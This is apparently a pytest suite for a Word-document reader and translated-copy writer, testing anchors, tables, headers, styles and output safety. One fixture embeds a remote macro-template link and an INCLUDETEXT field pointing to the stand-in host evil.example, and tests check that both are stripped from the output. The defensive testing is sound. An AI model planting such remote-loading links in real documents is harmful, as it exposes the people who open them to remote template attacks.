"""The .docx reader and writer on documents built here with python-docx."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import docx
import pytest
from docx.enum.text import WD_BREAK
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.text.paragraph import Paragraph
from PIL import Image

from hkpilot.documents.docx_reader import read_docx
from hkpilot.documents.docx_writer import save_translated_copy, set_paragraph_text, write_new_docx
from hkpilot.documents.loader import load_document
from hkpilot.documents.model import BlockKind
from hkpilot.errors import DocumentEmpty, OutputError

TEMPLATE_URL = "http://evil.example/remote-template.dotm"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def png() -> io.BytesIO:
    buf = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buf, format="PNG")
    buf.seek(0)
    return buf


def zip_text(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "\n".join(zf.read(n).decode("utf-8", "replace") for n in zf.namelist())


def style_name(p: Paragraph) -> str:
    return p.style.name if p.style is not None and p.style.name else ""


def anchors(path: Path) -> list[str]:
    return [b.anchor for b in read_docx(path).blocks]


def texts(path: Path) -> dict[str, str]:
    return {b.anchor: b.text for b in read_docx(path).blocks}


def test_body_order_paragraph_table_paragraph(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("before")
    t = d.add_table(rows=1, cols=2)
    t.cell(0, 0).text = "left"
    t.cell(0, 1).text = "right"
    d.add_paragraph("after")
    path = tmp_path / "order.docx"
    d.save(str(path))
    doc = load_document(path)
    assert [(b.anchor, b.text) for b in doc.blocks] == [
        ("p:1", "before"),
        ("t:1:r1:c1", "left"),
        ("t:1:r1:c2", "right"),
        ("p:2", "after"),
    ]
    assert [b.kind for b in doc.blocks] == [BlockKind.PARAGRAPH, BlockKind.TABLE_CELL, BlockKind.TABLE_CELL, BlockKind.PARAGRAPH]
    assert doc.format == "docx" and doc.source is not None
    assert doc.blocks[0].handle.text == "before"


def test_empty_paragraphs_keep_anchor_numbers(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("one")
    d.add_paragraph("")
    d.add_paragraph("three")
    path = tmp_path / "gaps.docx"
    d.save(str(path))
    assert texts(path) == {"p:1": "one", "p:2": "", "p:3": "three"}
    assert [b.anchor for b in read_docx(path).text_blocks] == ["p:1", "p:3"]


def test_nested_tables_and_multi_paragraph_cells(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("intro")
    d.add_table(rows=1, cols=1).cell(0, 0).text = "first table"
    outer = d.add_table(rows=2, cols=2)
    cell = outer.cell(1, 1)
    cell.text = "cell para 1"
    inner = cell.add_table(rows=2, cols=2)
    inner.cell(1, 0).text = "deep"
    cell.add_paragraph("cell para after")
    path = tmp_path / "nested.docx"
    d.save(str(path))
    got = texts(path)
    assert got["t:1:r1:c1"] == "first table"
    assert got["t:2:r2:c2:p:1"] == "cell para 1"
    assert got["t:2:r2:c2:t:1:r2:c1"] == "deep"
    assert "t:2:r2:c2:p:3" in got and got["t:2:r2:c2:p:3"] == "cell para after"
    order = anchors(path)
    assert order.index("t:2:r2:c2:p:1") < order.index("t:2:r2:c2:t:1:r1:c1") < order.index("t:2:r2:c2:p:2")


def test_merged_cells_read_once(tmp_path: Path) -> None:
    d = docx.Document()
    t = d.add_table(rows=3, cols=3)
    across = t.cell(0, 0).merge(t.cell(0, 2))
    across.text = "spans three columns"
    down = t.cell(1, 0).merge(t.cell(2, 0))
    down.text = "spans two rows"
    t.cell(1, 1).text = "plain"
    path = tmp_path / "merged.docx"
    d.save(str(path))
    blocks = read_docx(path).blocks
    all_text = [b.text for b in blocks]
    assert all_text.count("spans three columns") == 1
    assert all_text.count("spans two rows") == 1
    assert {b.anchor: b.text for b in blocks}["t:1:r2:c2"] == "plain"
    assert not any(b.anchor.startswith("t:1:r1:c2") for b in blocks)  # gridSpan: one w:tc in row 1
    assert not any(b.anchor.startswith("t:1:r3:c1") for b in blocks)  # vMerge continuation skipped


def test_headers_and_footers_per_section_without_duplicates(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("body one")
    s1 = d.sections[0]
    s1.header.paragraphs[0].text = "Header one"
    s1.footer.paragraphs[0].text = "Footer one"
    d.add_section()  # linked to the previous section's header/footer
    d.add_paragraph("body two")
    s3 = d.add_section()
    s3.header.is_linked_to_previous = False
    s3.header.paragraphs[0].text = "Header three"
    s3.different_first_page_header_footer = True
    s3.first_page_header.is_linked_to_previous = False  # else python-docx defines it on section 1
    s3.first_page_header.paragraphs[0].text = "Header three first page"
    path = tmp_path / "hf.docx"
    d.save(str(path))
    doc = read_docx(path)
    got = {b.anchor: (b.kind, b.text) for b in doc.blocks if b.kind in (BlockKind.HEADER, BlockKind.FOOTER)}
    assert got["header:1:p:1"] == (BlockKind.HEADER, "Header one")
    assert got["footer:1:p:1"] == (BlockKind.FOOTER, "Footer one")
    assert got["header:3:p:1"] == (BlockKind.HEADER, "Header three")
    assert got["header:3:p:2"] == (BlockKind.HEADER, "Header three first page")
    assert not any(a.startswith(("header:2", "footer:2", "footer:3")) for a in got)
    assert [b.text for b in doc.blocks].count("Header one") == 1


def test_headings_lists_and_sections(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("Report", style="Title")
    d.add_heading("Background", level=1)
    d.add_paragraph("text under background")
    d.add_heading("Detail", level=2)
    d.add_paragraph("bullet", style="List Bullet")
    d.add_paragraph("numbered", style="List Number 2")
    direct = d.add_paragraph("numbered by numPr")
    direct._p.get_or_add_pPr().append(parse_xml(f'<w:numPr {nsdecls("w")}><w:ilvl w:val="2"/><w:numId w:val="1"/></w:numPr>'))
    outline = d.add_paragraph("outline heading")
    outline._p.get_or_add_pPr().append(parse_xml(f'<w:outlineLvl {nsdecls("w")} w:val="2"/>'))
    d.add_paragraph("after outline")
    path = tmp_path / "kinds.docx"
    d.save(str(path))
    b = {x.text: x for x in read_docx(path).blocks}
    assert (b["Report"].kind, b["Report"].level) == (BlockKind.HEADING, 0)
    assert (b["Background"].kind, b["Background"].level, b["Background"].style) == (BlockKind.HEADING, 1, "Heading 1")
    assert (b["Detail"].kind, b["Detail"].level) == (BlockKind.HEADING, 2)
    assert b["bullet"].kind is BlockKind.LIST_ITEM
    assert b["numbered"].kind is BlockKind.LIST_ITEM
    assert (b["numbered by numPr"].kind, b["numbered by numPr"].level) == (BlockKind.LIST_ITEM, 3)
    assert (b["outline heading"].kind, b["outline heading"].level) == (BlockKind.HEADING, 3)
    assert b["text under background"].kind is BlockKind.PARAGRAPH
    assert b["text under background"].section == "Background"
    assert b["bullet"].section == "Detail"
    assert b["after outline"].section == "outline heading"


def _tracked_and_controls(tmp_path: Path) -> Path:
    d = docx.Document()
    p = d.add_paragraph("Kept ")
    mark = 'w:author="a" w:date="2024-01-01T00:00:00Z"'
    p._p.append(parse_xml(f'<w:ins {nsdecls("w")} w:id="1" {mark}><w:r><w:t>inserted</w:t></w:r></w:ins>'))
    p._p.append(parse_xml(f'<w:del {nsdecls("w")} w:id="2" {mark}><w:r><w:delText>deleted</w:delText></w:r></w:del>'))
    body = d.element.body
    sdt = parse_xml(
        f'<w:sdt {nsdecls("w")}><w:sdtPr/><w:sdtContent><w:p><w:r><w:t>inside a content control</w:t></w:r></w:p>'
        "</w:sdtContent></w:sdt>"
    )
    body.insert(body.index(body.sectPr), sdt)
    d.add_paragraph("last")
    d.add_paragraph().add_run().add_picture(png())
    path = tmp_path / "tracked.docx"
    d.save(str(path))
    return path


def test_tracked_insertions_content_controls_and_skipped_notes(tmp_path: Path) -> None:
    doc = read_docx(_tracked_and_controls(tmp_path))
    got = {b.anchor: b.text for b in doc.blocks}
    assert got["p:1"] == "Kept inserted"  # insertion read, deletion left out
    assert got["p:2"] == "inside a content control"
    assert got["p:3"] == "last"
    assert "images: 1" in doc.skipped
    assert any(s.startswith("tracked changes") and s.endswith(": 2") for s in doc.skipped)


def test_document_without_text_is_empty(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("")
    d.add_table(rows=1, cols=1)
    path = tmp_path / "blank.docx"
    d.save(str(path))
    with pytest.raises(DocumentEmpty):
        load_document(path)


def _rich_source(tmp_path: Path) -> Path:
    d = docx.Document()
    d.core_properties.title = "Source title"
    d.add_heading("Heading", level=1)
    p = d.add_paragraph(style="Quote")
    first = p.add_run("Hello ")
    first.bold = True
    p.add_run("world").italic = True
    p.add_run().add_picture(png())
    t = d.add_table(rows=2, cols=2)
    t.style = "Table Grid"
    for r in range(2):
        for c in range(2):
            t.cell(r, c).text = f"cell {r}{c}"
    d.add_paragraph("tail")
    d.sections[0].header.paragraphs[0].text = "the header"
    settings = d.settings
    rid = d.part._settings_part.relate_to(TEMPLATE_URL, ATTACHED_TEMPLATE, is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>'))
    fld = d.add_paragraph()
    fld._p.append(parse_xml(
        f'<w:fldSimple {nsdecls("w")} w:instr=\' INCLUDETEXT "http://evil.example/x.docx" \'>'
        "<w:r><w:t>included result</w:t></w:r></w:fldSimple>"
    ))
    path = tmp_path / "source.docx"
    d.save(str(path))
    return path


def test_translated_copy_keeps_structure_and_source(tmp_path: Path) -> None:
    src = _rich_source(tmp_path)
    before = sha(src)
    assert TEMPLATE_URL in zip_text(src)  # the fixture really carries the remote link
    doc = load_document(src)
    translations = {b.anchor: f"譯文 {b.anchor} <w:t>not markup</w:t> & co" for b in doc.text_blocks}
    translations["p:3"] = "第一行\n第二行\t完"
    out = tmp_path / "out" / "translated.docx"
    save_translated_copy(doc, translations, out)

    assert sha(src) == before  # the source is never written
    fresh = docx.Document(str(src))
    copy = docx.Document(str(out))
    assert len(copy.paragraphs) == len(fresh.paragraphs)
    assert len(copy.tables) == len(fresh.tables)
    assert [style_name(p) for p in copy.paragraphs] == [style_name(p) for p in fresh.paragraphs]
    table_style = copy.tables[0].style
    assert table_style is not None and table_style.name == "Table Grid"
    quote = copy.paragraphs[1]
    assert style_name(quote) == "Quote"
    text_runs = [r for r in quote.runs if r.text]
    assert len(text_runs) == 1 and text_runs[0].bold is True and not text_runs[0].italic
    assert len(quote._p.findall(".//" + qn("w:drawing"))) == 1  # the picture stayed

    got = texts(out)
    for anchor, text in translations.items():
        if anchor not in ("p:3", "p:4"):
            assert got[anchor] == text  # plain text, never parsed as XML
    assert got["p:3"] == "第一行\n第二行\t完"
    assert got["p:4"] == "included result"  # a field is left as it is (here: its result, the link gone)
    assert got["header:1:p:1"].startswith("譯文 header:1:p:1")
    assert copy.core_properties.title == "Source title"

    out_xml = zip_text(out)
    assert "evil.example" not in out_xml  # remote template and INCLUDETEXT field gone
    assert "attachedTemplate" not in out_xml and "INCLUDETEXT" not in out_xml


def test_untranslated_paragraphs_are_left_alone(tmp_path: Path) -> None:
    src = _rich_source(tmp_path)
    doc = load_document(src)
    save_translated_copy(doc, {"p:1": "標題"}, tmp_path / "partial.docx")
    got = texts(tmp_path / "partial.docx")
    assert got["p:1"] == "標題"
    assert got["p:2"] == "Hello world"
    assert got["t:1:r2:c2"] == "cell 11"


def test_output_over_source_is_refused(tmp_path: Path) -> None:
    src = _rich_source(tmp_path)
    before = sha(src)
    doc = load_document(src)
    with pytest.raises(OutputError):
        save_translated_copy(doc, {"p:1": "x"}, src)
    with pytest.raises(OutputError):
        save_translated_copy(doc, {"p:1": "x"}, tmp_path / "sub" / ".." / "source.docx")
    (tmp_path / "hardlink.docx").hardlink_to(src)
    with pytest.raises(OutputError):
        save_translated_copy(doc, {"p:1": "x"}, tmp_path / "hardlink.docx")
    assert sha(src) == before


def test_changed_source_or_unknown_anchor_is_refused(tmp_path: Path) -> None:
    src = _rich_source(tmp_path)
    doc = load_document(src)
    with pytest.raises(OutputError):
        save_translated_copy(doc, {"p:999": "x"}, tmp_path / "a.docx")
    d = docx.Document(str(src))
    d.add_paragraph("edited elsewhere")
    d.save(str(src))
    with pytest.raises(OutputError):
        save_translated_copy(doc, {"p:1": "x"}, tmp_path / "b.docx")
    assert not (tmp_path / "a.docx").exists() and not (tmp_path / "b.docx").exists()


def test_set_paragraph_text_flattens_hyperlinks_and_keeps_breaks(tmp_path: Path) -> None:
    d = docx.Document()
    p = d.add_paragraph("See ")
    p._p.append(parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="rId99"><w:r><w:t>the site</w:t></w:r></w:hyperlink>'
    ))
    p.add_run().add_break(WD_BREAK.PAGE)
    set_paragraph_text(p, "請參閱網站")
    assert p._p.find(qn("w:hyperlink")) is None
    assert p.text.strip() == "請參閱網站"
    assert any(br.get(qn("w:type")) == "page" for br in p._p.iter(qn("w:br")))
    empty = d.add_paragraph()
    set_paragraph_text(empty, "new text")
    assert empty.text == "new text"


def test_write_new_docx(tmp_path: Path) -> None:
    out = tmp_path / "new" / "summary.docx"
    write_new_docx(
        [
            ("heading", "摘要"),
            ("paragraph", "香港特別行政區政府"),
            ("list_item", "第一點"),
            ("heading2", "Sub"),
            ("paragraph", "x\x00y"),
        ],
        out,
        title="Summary",
    )
    doc = read_docx(out)
    got = [(b.kind, b.text, b.level) for b in doc.blocks]
    assert got == [
        (BlockKind.HEADING, "Summary", 0),
        (BlockKind.HEADING, "摘要", 1),
        (BlockKind.PARAGRAPH, "香港特別行政區政府", 0),
        (BlockKind.LIST_ITEM, "第一點", 1),
        (BlockKind.HEADING, "Sub", 2),
        (BlockKind.PARAGRAPH, "xy", 0),  # a control character XML cannot hold is dropped
    ]
    assert doc.meta.title == "Summary"
    with zipfile.ZipFile(out) as zf:
        styles = zf.read("word/styles.xml").decode()
        fonts = zf.read("word/fontTable.xml").decode()
    assert 'w:eastAsia="Microsoft JhengHei"' in styles
    assert "PMingLiU" in fonts
    assert not list(tmp_path.glob("new/.*.tmp"))  # atomic save left no temp file


def test_write_new_docx_from_blocks(tmp_path: Path) -> None:
    src = _rich_source(tmp_path)
    blocks = load_document(src).text_blocks
    out = tmp_path / "from_blocks.docx"
    write_new_docx(blocks, out)
    got = read_docx(out).blocks
    assert [b.text for b in got] == [b.text for b in blocks]
    assert got[0].kind is BlockKind.HEADING
